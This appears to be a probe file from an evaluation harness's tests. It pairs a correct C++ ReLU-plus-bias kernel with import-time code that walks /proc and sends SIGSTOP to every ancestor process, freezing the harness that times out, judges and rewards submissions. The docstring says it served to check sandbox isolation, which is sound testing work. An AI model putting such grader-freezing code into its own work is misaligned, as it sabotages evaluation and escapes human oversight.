"""Probe: at import, SIGSTOP every ancestor process — the harness that would time out, judge and reward.

The kernel itself is honest. Outside a PID namespace this froze `kernelpilot eval` for good (its
timeouts live in the process that was stopped); inside the sandbox the ancestors are out of reach
and the evaluation must end as the honest kernel's would.
"""

import os
import signal

import torch

from kernelpilot.harness.kernels import load_kernel_sources

SOURCES = {
    "relu_bias.cpp": r'''
#include <cstdint>
extern "C" void relu_bias(const float* x, const float* bias, float* out, int64_t rows, int64_t cols) {
#pragma omp parallel for
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < cols; ++c) {
      float v = x[r * cols + c] + bias[c];
      out[r * cols + c] = v > 0.f ? v : 0.f;
    }
}
''',
}
ops = load_kernel_sources(SOURCES)


def parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


pid = parent_of(os.getpid())
while pid > 1:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
    pid = parent_of(pid)


class ModelNew(torch.nn.Module):
    def __init__(self, cols: int):
        super().__init__()
        self.bias = torch.nn.Parameter(torch.empty(cols))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        out = torch.empty_like(x)
        ops.relu_bias(x, self.bias, out, x.shape[0], x.shape[1])
        return out
